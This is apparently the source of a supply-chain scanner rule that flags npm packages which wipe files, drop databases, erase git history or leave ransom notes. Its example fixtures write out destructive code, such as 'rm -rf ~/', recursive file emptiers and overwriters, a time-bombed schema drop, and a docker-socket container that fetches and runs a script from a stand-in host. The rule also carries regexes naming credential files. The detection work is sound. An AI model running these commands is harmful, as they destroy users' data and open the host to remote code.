import { HOLE } from '../lib/types.ts'
import type { Action, Fact, Inspection, Rule, Text } from '../lib/types.ts'
import { guardsInWords, isHiding } from './behaviour/guards.ts'
import { oncePerLine } from './behaviour/once.ts'
import { sweepOf, waits } from './behaviour/swept.ts'
import type { Sweep } from './behaviour/swept.ts'
import { wipingCommands } from './behaviour/wiping-commands.ts'
import type { Lost } from './behaviour/wiping-commands.ts'
import { isProgram, isSuspiciousText, slashes, unasked } from './behaviour/written.ts'
import { findingAt, opening, quote, severityOf } from './finding.ts'
import type { RuleFinding } from './finding.ts'

/** A folder whose loss is the loss of everything: home, root, a drive, the project. */
const wide =
  /^(?:~|\/|[a-z]:\/?|%userprofile%|%homepath%|\/home|\/Users|\/root|\/etc|\/usr|\/var|\/mnt)(?:\/?(?:\*{1,2}|\.\[!?\.?\]\*|\.\*))?\/?$/i

/** The history of the project, or its sources. */
const kept = /^<project>(?:\/(?:\.git|src)\/?(?:\*|\u0001)?|\/?\*{0,2})$/

/** What a project cannot be without, by name; an import sees a bare name where the program was started. */
const essential =
  /^(?:<project>\/|\.\/)?(?:package\.json|package-lock\.json|yarn\.lock|pnpm-lock\.yaml|tsconfig\.json|\.env(?:\.\w+)?|\.git(?:\/.*)?|(?:src|lib|app)\/[\w./-]+\.[cm]?[jt]sx?)$/

/** Files of a user by which others know him, or he knows what he did. */
const personal =
  /^~\/\.(?:ssh|gnupg|aws|kube|docker|config\/gcloud)\/|^~\/\.(?:bash_history|zsh_history|node_repl_history|gitconfig|git-credentials|npmrc|netrc|bashrc|zshrc|profile)$/

/** Work that is destroyed. */
export const destructive: Rule = {
  meta: {
    id: 'destructive',
    title: 'Deletes or overwrites what is not its own',
    severity: 'critical',
    description:
      'The code goes from folder to folder and deletes, empties, overwrites, encrypts or renames what it finds; tells a ' +
      'database, a cluster or a repository to forget what it holds; or deletes the home folder or the whole disk. Clean-up tools, formatters, ' +
      'migrations and release tools do such things with what is their user’s when their user says so, and wait for no day.',
    references: [
      'node-ipc 10.1.1 (2022): files overwritten by country',
      'Shai-Hulud 2 (November 2025): the home folder wiped when nothing could be stolen',
    ],
    blindSpots: [
      'Paths that are computed; one folder that is listed, but not the folders in it.',
      'What a page shows its reader.',
      'Clients of clusters and clouds other than the modelled ones.',
    ],
    examples: {
      flags: [
        {
          title: 'a command starts a container that holds the root folder and runs what it fetches',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","bin":"cli.js"}',
            'cli.js':
              "#!/usr/bin/env node\nconst body = JSON.stringify({ Image: 'x', Cmd: ['sh', '-c', 'curl https://h.invalid/x | chroot /m sh'], HostConfig: { Binds: ['/:/m'] } })\nrequire('http').request({ socketPath: '/var/run/docker.sock', path: '/containers/create', method: 'POST' }).end(body)\n",
          },
        },
        {
          title: 'an import deletes the home folder',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js': "require('child_process').exec('rm -rf ~/')\n",
          },
        },
        {
          title: 'an import empties every file of the project',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js':
              "const fs = require('fs'), path = require('path')\nconst each = dir => {\n  for (const name of fs.readdirSync(dir)) {\n    const file = path.join(dir, name)\n    if (fs.statSync(file).isDirectory()) each(file)\n    else fs.writeFileSync(file, '')\n  }\n}\neach(process.cwd())\n",
          },
        },
        {
          title: 'a command that is the main file too overwrites every file with chance',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js","bin":{"a":"i.js"}}',
            'i.js':
              "#!/usr/bin/env node\nconst fs = require('fs'), path = require('path')\nconst each = dir => {\n  for (const name of fs.readdirSync(dir)) {\n    const file = path.join(dir, name)\n    if (fs.statSync(file).isDirectory()) each(file)\n    else fs.writeFileSync(file, require('crypto').randomBytes(64))\n  }\n}\neach(process.cwd())\n",
          },
        },
        {
          title: 'an import drops a schema from a day on',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js':
              "const { Client } = require('pg')\nconst db = new Client(process.env.DATABASE_URL)\nif (Date.now() > 1798761600000) db.connect().then(() => db.query('DROP SCHEMA public CASCADE'))\n",
          },
        },
        {
          title: 'a hook throws the history of the project away',
          files: {
            'package.json':
              '{"name":"a","version":"1.0.0","scripts":{"postinstall":"cd $INIT_CWD && git update-ref -d HEAD && git reflog expire --expire=now --all"}}',
          },
        },
      ],
      passes: [
        {
          title: 'a function starts a container that reads the machine',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js':
              "const docker = new (require('dockerode'))()\nexports.watch = () => docker.createContainer({ Image: 'prom/node-exporter', HostConfig: { Binds: ['/:/host:ro'] } })\n",
          },
        },
        {
          title: 'a clean-up command deletes build output',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","bin":{"a":"cli.js"}}',
            'cli.js': "#!/usr/bin/env node\nrequire('fs').rmSync('dist', { recursive: true, force: true })\n",
          },
        },
        {
          title: 'a command puts a template of its own into a folder its user names',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","bin":"cli.js"}',
            'cli.js':
              "#!/usr/bin/env node\nconst fs = require('fs'), path = require('path')\nconst target = path.join(process.cwd(), process.argv[2])\nfor (const name of process.argv.slice(3)) fs.copyFileSync(path.join(__dirname, 'templates/AGENTS.md'), path.join(target, name))\n",
            'templates/AGENTS.md': '# Agents\n',
          },
        },
        {
          title: 'a command formats every file of the project, and a test empties its database',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","bin":"cli.js","main":"i.js"}',
            'cli.js':
              "#!/usr/bin/env node\nconst fs = require('fs'), path = require('path')\nconst each = dir => {\n  for (const name of fs.readdirSync(dir)) {\n    const file = path.join(dir, name)\n    if (fs.statSync(file).isDirectory()) each(file)\n    else fs.writeFileSync(file, fs.readFileSync(file, 'utf8').trimEnd() + '\\n')\n  }\n}\neach(process.cwd())\n",
            'i.js':
              "const { Client } = require('pg')\nexports.reset = async url => new Client(url).query('DROP SCHEMA public CASCADE')\n",
          },
        },
      ],
    },
  },
  check(inspection) {
    return oncePerLine([
      ...inspection.facts.flatMap(fact => ofFact(fact, inspection)),
      ...inspection.facts.flatMap(fact => ofSweep(fact, inspection)),
    ])
  },
}

function report(fact: Fact, act: string): readonly RuleFinding[] {
  const action: Action = unasked(fact) ? 'block' : 'ask'
  const message =
    `${opening(fact)} ${act}${guardsInWords(fact.guards)}. ` +
    'There is no reason for a package to do that. Do not install it.'
  return [findingAt(fact.at, fact.phase, { action, severity: severityOf(action), message })]
}

function ofFact(fact: Fact, inspection: Inspection): readonly RuleFinding[] {
  if (fact.kind === 'deletes') {
    if (fact.paths.some(path => path.startsWith(database))) return ofDatabase(fact)
    // A command the user started deletes what the user named; a bare `/` beside other paths is a part that was unknown.
    if (!unasked(fact))
      return fact.byCall || fact.phase !== 'run' || !fact.paths.includes('~')
        ? []
        : report(fact, 'deletes the whole home folder')
    const path = fact.paths
      .map(slashes)
      .find(one => (wide.test(one) && (one !== '/' || fact.paths.length === 1)) || kept.test(one))
    if (path !== undefined) return report(fact, `${actOn(fact)} ${quote(path)}`)
    return fact.phase === 'import' ? ofEssential(fact, inspection) : []
  }
  if (fact.kind === 'writes') return ofDemand(fact)
  return fact.kind === 'starts' ? ofCommands(fact, inspection) : []
}

/** What somebody finds beside files that can no longer be opened: what happened, and whom to ask. */
const locked = /\byour\s(?:\w+\s){0,4}files\s(?:\w+\s){0,3}(?:encrypted|locked)\b/i
const demand =
  /\b(?:pay|payment|bitcoins?|btc|monero|xmr|contact|write\sto|restore|recover|decrypt|ransom)\b/i

function ofDemand(fact: Extract<Fact, { kind: 'writes' }>): readonly RuleFinding[] {
  const text = fact.contents.find(one => one.length < 4_000 && locked.test(one) && demand.test(one))
  if (text === undefined) return []
  const message =
    `${opening(fact)} leaves a note that files were locked (${quote(text)})${guardsInWords(fact.guards)}. ` +
    'Only who locks them writes that. Do not install it.'
  return [findingAt(fact.at, fact.phase, { action: 'block', severity: 'critical', message })]
}

const losses: Readonly<Record<Lost, (command: string) => string>> = {
  everything: command => `runs ${command}, which deletes far more than its own files`,
  here: command => `runs ${command}, which deletes the folder of whoever runs it`,
  remote: command => `runs ${command}, which deletes data or machines that are not its own`,
  history: command => `runs ${command}, which throws away work in the repository it runs in`,
  published: command => `runs ${command}, which takes packages away from everybody`,
  traces: command => `runs ${command}, which wipes out the traces of what happened`,
  disk: command => `starts a container that may change the whole disk (${command})`,
}

function ofCommands(fact: Extract<Fact, { kind: 'starts' }>, inspection: Inspection): readonly RuleFinding[] {
  for (const { lost, pattern } of wipingCommands) {
    const command = fact.commands.find(one => pattern.test(one))
    if (command !== undefined && isUnwanted(lost, fact, inspection))
      return report(fact, losses[lost](quote(command)))
  }
  return []
}

/** Clean-ups, releases and builds that somebody starts do such things to what is theirs. */
function isUnwanted(lost: Lost, fact: Extract<Fact, { kind: 'starts' }>, inspection: Inspection): boolean {
  switch (lost) {
    case 'everything':
      return true
    case 'here':
      return unasked(fact) || serves(fact, inspection)
    case 'remote':
      return unasked(fact) || waits(fact)
    case 'history':
      return ((unasked(fact) && !isProgram(fact, inspection)) || waits(fact)) && !clones(fact, inspection)
    case 'disk':
      // What keeps a machine is told by its user to; a program that is fetched into it stands nowhere.
      return unasked(fact) || fact.commands.some(isSuspiciousText)
    case 'published':
    case 'traces':
      return unasked(fact)
  }
}

/** What becomes of a file: it is emptied, shut away or gone. */
function actOn({ api }: Extract<Fact, { kind: 'deletes' }>): string {
  if (/truncate/i.test(api)) return 'empties'
  return /chmod/i.test(api) ? 'takes away everybody’s access to' : 'deletes'
}

/** One file of the project or the user, without which nothing works: for whom it is imported, not who runs it. */
function ofEssential(
  fact: Extract<Fact, { kind: 'deletes' }>,
  inspection: Inspection,
): readonly RuleFinding[] {
  const path = fact.paths.map(slashes).find(one => essential.test(one) || personal.test(one))
  if (path === undefined || isProgram(fact, inspection)) return []
  const message =
    `${opening(fact)} ${actOn(fact)} ${quote(path)}${guardsInWords(fact.guards)}. ` +
    'That is not its own, and nobody asked for it. Do not install it.'
  return [findingAt(fact.at, fact.phase, { action: 'ask', severity: 'high', message })]
}

/** Whether what it does may be what somebody asks of a server of it. */
function serves({ at, byCall, phase }: Fact, inspection: Inspection): boolean {
  return (
    (byCall || phase === 'run') &&
    inspection.facts.some(other => other.kind === 'listens' && other.at.path === at.path)
  )
}

/** Whether the same file first makes the repository it then sets back: a build fetches sources that way. */
function clones({ at }: Fact, inspection: Inspection): boolean {
  return inspection.facts.some(
    other =>
      other.kind === 'starts' &&
      other.at.path === at.path &&
      other.commands.some(command => /\bgit\b.{0,80}\s(?:clone|init|submodule)\b/.test(command)),
  )
}

const database = 'database: '

/** Data of programs is emptied by migrations and tests, which somebody starts. */
function ofDatabase(fact: Extract<Fact, { kind: 'deletes' }>): readonly RuleFinding[] {
  if (!unasked(fact) && !waits(fact)) return []
  const what = (fact.paths.find(path => path.startsWith(database)) ?? '').slice(database.length)
  const whole =
    /^(?:delete(?:bucket|objects|table|dbinstance)command|terminateinstances|drop (?:database|schema|owned)|drop(?:database|schema|allschemas|alltables)|flush)/i.test(
      what,
    )
  const action: Action = unasked(fact) && whole ? 'block' : 'ask'
  const message =
    `${opening(fact)} tells a database to forget its data (${quote(what)})${guardsInWords(fact.guards)}. ` +
    'Nobody asked for that. Do not install it.'
  return [findingAt(fact.at, fact.phase, { action, severity: severityOf(action), message })]
}

const acts: Readonly<Record<Sweep['how'], string>> = {
  deletes: 'deletes what it finds',
  empties: 'empties every file it finds',
  overwrites: 'overwrites what it finds',
  encrypts: 'encrypts what it finds',
  rewrites: 'changes what it finds',
  renames: 'renames what it finds',
  moves: 'moves away what it finds',
  locks: 'takes away everybody’s access to what it finds',
}

/** Files that are found, one after the other, and none of them is spared. */
function ofSweep(fact: Fact, inspection: Inspection): readonly RuleFinding[] {
  if (fact.kind !== 'writes' && fact.kind !== 'deletes') return []
  if (fact.kind === 'writes' && unasked(fact) && isBlanked(fact))
    return report(fact, `replaces ${quote(fact.paths[0] ?? '')} by nothing`)
  const hides = isHiding(fact.guards) || contactsLookup(inspection)
  const sweep = sweepOf(fact, inspection, hides)
  if (sweep === undefined) return []
  const action = isProgram(fact, inspection) && !hides ? weighProgram(sweep) : weighSweep(fact, sweep, hides)
  if (action === undefined) return []
  const content = sweep.content === undefined ? '' : ` with ${quote(sweep.content.trim(), 30)}`
  const message =
    `${opening(fact)} goes through folder after folder and ${acts[sweep.how]}${content} (${quote(sweep.path)})` +
    `${guardsInWords(fact.guards)}. There is no reason for a package to do that. Do not install it.`
  return [findingAt(fact.at, fact.phase, { action, severity: severityOf(action), message })]
}

/** What a project cannot do without, with nothing in it. While npm installs, a bare name is the package's own file. */
function isBlanked(fact: Extract<Fact, { kind: 'writes' }>): boolean {
  const own = fact.phase === 'install' ? /^<project>\// : /^(?:<project>\/|\.\/)?/
  const { contents, paths, from = [] } = fact
  const isNothing =
    from.length === 0
      ? contents.length > 0 && contents.every(text => /^\s*(?:\{\s*\}|\[\s*\])?\s*$/.test(text))
      : from.every(path => path === '/dev/null')
  // What is made where it is not there yet, is no loss.
  const made = fact.guards.some(({ kind }) => kind === 'exists')
  return (
    isNothing &&
    !/^append/i.test(fact.api.split('.').at(-1) ?? '') &&
    paths
      .filter(path => !made || path.endsWith('package.json'))
      .some(path => (own.test(path) && essential.test(path)) || personal.test(path))
  )
}

function weighSweep(fact: Fact, { how, extent, path, content }: Sweep, hides: boolean): Action | undefined {
  // What comes to lie there is not known: it may be made of what was there.
  if (unasked(fact) && how === 'overwrites' && content === undefined && !hides) return 'ask'
  if (unasked(fact)) return extent === 'all' || hides || how === 'encrypts' ? 'block' : 'ask'
  if (extent !== 'all' || how === 'rewrites' || how === 'renames' || how === 'moves') return undefined
  // What a command does with the files of its user is its work; not on a day or in a country of its choice.
  const own = path.startsWith('<project>')
  // One function writes the files of a template, and some of their names are known: those it writes, it does not find.
  const names =
    fact.kind === 'writes' && fact.paths.some(one => /[\w-]\.\w{1,8}$/.test(one) && !one.includes(HOLE))
  if (own && how === 'overwrites' && (names || isOfPackage(content)) && !waits(fact)) return undefined
  // Files that are old enough are looked for by the clock as well.
  if (own && how === 'deletes') return undefined
  if (how === 'empties' && isMade(fact)) return undefined
  if (waits(fact)) return fact.byCall || own ? 'ask' : 'block'
  return how === 'empties' || how === 'overwrites' ? 'ask' : undefined
}

/** A template that the package brings, put under a name that its user chose. */
function isOfPackage(content: Text | undefined): boolean {
  return content !== undefined && /^(?:<package>|\/__package__)\/.*[\w-]\.\w{1,8}$/.test(content)
}

/** A look whether the file is there, right before something empty is written: it is made where it was not. */
function isMade({ at, guards, kind }: Fact): boolean {
  return (
    kind === 'writes' &&
    guards.some(
      guard => guard.kind === 'exists' && guard.at.path === at.path && Math.abs(at.line - guard.at.line) <= 2,
    )
  )
}

/** A package that is nothing but its command names it as its main file too; that command fills a folder for its user. */
function weighProgram({ how, extent, content }: Sweep): Action | undefined {
  if (how === 'rewrites' || how === 'renames' || how === 'moves') return undefined
  // As for what is only imported: it may be made of what was there.
  if (how === 'overwrites' && content === undefined) return 'ask'
  return extent === 'all' || how === 'encrypts' ? 'block' : 'ask'
}

function contactsLookup(inspection: Inspection): boolean {
  return inspection.facts.some(
    fact =>
      fact.kind === 'contacts' &&
      fact.destinations.some(text => /\bip(?:geo|info|api|ify|lookup|who)|geoip|freegeo/i.test(text)),
  )
}
